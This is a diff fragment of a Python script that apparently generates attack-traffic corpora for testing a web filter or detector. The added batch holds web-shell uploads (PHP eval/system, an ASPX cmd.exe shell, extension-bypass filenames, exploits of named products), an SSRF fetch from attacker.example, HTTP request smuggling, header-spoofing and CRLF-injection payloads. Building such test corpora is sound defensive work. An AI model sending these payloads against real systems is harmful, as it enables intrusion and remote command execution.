+        RF("/images/1.php", "z=" + form_enc("@eval(base64_decode($_POST[z0]));") + "&z0=" + form_enc(chopper),
+           ua_="Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"),
+        R5("POST", "/upload/tunnel.jsp", query="cmd=connect&target=10.0.1.12&port=3389", ua_="python-requests/2.31.0",
+           accept="*/*"),
+        # uploads of current families and of the shells planted by known product bugs
+        M("/api/v1/files", [("file", GODZILLA_JSP, "error.jsp", "application/octet-stream")],
+          boundary="----WebKitFormBoundaryG5dz1lla0000"),
+        M("/upload/attach", [("file", BEHINDER_ASPX, "default.aspx", "image/jpeg")],
+          boundary="----WebKitFormBoundaryB5h1nder0001"),
+        M("/admin/plugin/upload", [("file", MEMSHELL_JSP, "check.jsp", "text/plain")],
+          boundary="----WebKitFormBoundaryM5em0ry00002"),
+        M("/api/v1/files", [("file", "<?php $f = $_SERVER['HTTP_X_FUNC']; $f($_SERVER['HTTP_X_ARG']); ?>",
+                             "wp-cron-helper.php", "text/plain")], boundary="----WebKitFormBoundaryH5dr00000003"),
+        RF("/ueditor/net/controller.ashx", "source%5B%5D=" + form_enc("http://attacker.example/s.jpg?.aspx"),
+           query="action=catchimage"),
+        M("/upload/attach", [("file", "<%@ Page Language=\"C#\"%><% Response.Write(new System.Diagnostics.Process{"
+                             "StartInfo=new System.Diagnostics.ProcessStartInfo(\"cmd.exe\",\"/c \"+Request[\"c\"]){"
+                             "RedirectStandardOutput=true,UseShellExecute=false}}.Start()); %>", "shell.aspx::$DATA",
+                             "image/png")], boundary="----WebKitFormBoundaryAd50000000004"),
+        M("/member/avatar/upload", [("file", "<?php @system($_GET['x']); ?>", "shell.php%00.jpg", "image/jpeg")],
+          boundary="----WebKitFormBoundaryN5u1100000005"),
+        M("/ispirit/im/upload.php", [("P", "123"), ("DEST_UID", "1"), ("UPLOAD_MODE", "2"),
+                                     ("ATTACHMENT", TONGDA_JPG, "jpg", "image/jpeg")],
+          boundary="----WebKitFormBoundaryT5ngda0000006"),
+        M("/eps/api/resourceOperations/upload", [("fileUploader", IVMS_JSP, "a.jsp", "image/jpeg")],
+          query="token=A1B2C3D4E5F60718293A4B5C6D7E8F90", boundary="----WebKitFormBoundaryIv5ms0000007"),
+    ]
+
+
+def scanner5():
+    shiro = _b64.b64encode(_blob("shiro-key-brute", 288)).decode()
+    return [
+        C("/login", "rememberMe=1"),
+        C("/login", "rememberMe=" + shiro),
+        P("/acunetix-wvs-test-for-some-inexistent-file"),
+        P("/appscan_fingerprint/mac_address"),
+        H("/", "User-Agent", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"),
+        H("/info.php", "User-Agent", "Mozilla/5.0 (l9scan/2.0.; +https://leakix.net)"),
+        H("/", "User-Agent", "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple "
+          "times per day to identify customers&#39; presences on the Internet. If you would like to be excluded from "
+          "our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com"),
+        P("/nice%20ports%2C/Tri%6Eity.txt%2ebak"),
+        P("/jolokia/list"),
+        P("/_cat/indices", "v"),
+        P("/", "XDEBUG_SESSION_START=phpstorm"),
+        P("/actuator/env"),
+        P("/console/login/LoginForm.jsp"),
+        P("/api/jsonws/invoke"),
+        P("/wwwroot.rar"),
+        P("/solr/admin/cores", "action=STATUS&wt=json"),
+    ]
+
+
+def protocol5():
+    smuggled = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\nX: x"
+    twice = "body=hiGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"
+    return [
+        with_headers("POST", "/api/v1/orders", {"Transfer-Encoding": "\tchunked", "Content-Length": "4",
+                                                "Content-Type": "application/json"}, "5\r\nhello\r\n0\r\n\r\n"),
+        with_headers("POST", "/api/v1/orders", {"Transfer-Encoding": "chunked"},
+                     "2;\nxx\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(smuggled), smuggled)),
+        with_headers("POST", "/api/v1/orders", {"Transfer-Encoding": "chunked"}, "5\nhello\n0\n\n"),
+        with_headers("GET", "/admin/", {"X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1",
+                                        "X-Originating-IP": "127.0.0.1", "X-Remote-Addr": "127.0.0.1",
+                                        "X-Client-IP": "127.0.0.1", "True-Client-IP": "127.0.0.1"}),
+        with_headers("GET", "/", {"X-Rewrite-URL": "/admin/config"}),
+        with_headers("POST", "/api/login", {"Expect": "y 100-continue", "Content-Type": "application/json",
+                                            "Content-Length": "2"}, "{}"),
+        with_headers("POST", "/comment", {"Content-Length": "7", "content-length": str(len(twice)),
+                                          "Content-Type": "application/x-www-form-urlencoded"}, twice),
+        with_headers("GET", "/", {":path": "/admin", ":authority": "localhost"}),
+        with_headers("GET", "/%0d%0aSet-Cookie:%20sid=attacker%3b%20Path=/", {}),
+        with_headers("POST", "/api/v1/orders", {"Content-Length": "5", "X-Ignore": "x\r\n Transfer-Encoding: chunked"},
+                     "0\r\n\r\n"),
+        get("/search", "&".join("p%d=1" % i for i in range(1000)), ua=ua()),
+        with_headers("POST", "/api/v1/orders", {"Transfer-Encoding": "chunked"}, "0x5\r\nhello\r\n0\r\n\r\n"),
+    ]
+
+
+BATCH5 = {"sqli": sqli5, "xss": xss5, "cmdi": cmdi5, "lfi": lfi5, "rfi_ssrf": rfi_ssrf5, "xxe": xxe5,
+          "ssti": ssti5, "webshell": webshell5, "scanner": scanner5, "protocol": protocol5}
+
+
 CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("lfi", lfi), ("rfi_ssrf", rfi_ssrf),
               ("xxe", xxe), ("ssti", ssti), ("webshell", webshell), ("scanner", scanner),
               ("protocol", protocol)]
@@ -1384,7 +1844,7 @@ CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("lfi", lfi), ("rfi_
 
 def main():
     out = sys.argv[1] if len(sys.argv) > 1 else OUT
-    # Batch 1 first, for all files, then batch 2, then 3, then 4: each batch's User-Agent
+    # Batch 1 first, for all files, then batch 2, then 3, then 4, then 5: each batch's User-Agent
     # rotation stays what it was when it was measured.
     first = [(name, fn()) for name, fn in CATEGORIES]
     for name, reqs in first:
@@ -1393,6 +1853,8 @@ def main():
         reqs += BATCH3[name]()
     for name, reqs in first:
         reqs += BATCH4[name]()
+    for name, reqs in first:
+        reqs += BATCH5[name]()
     for name, reqs in first:
         seen = set()
         for r in reqs:
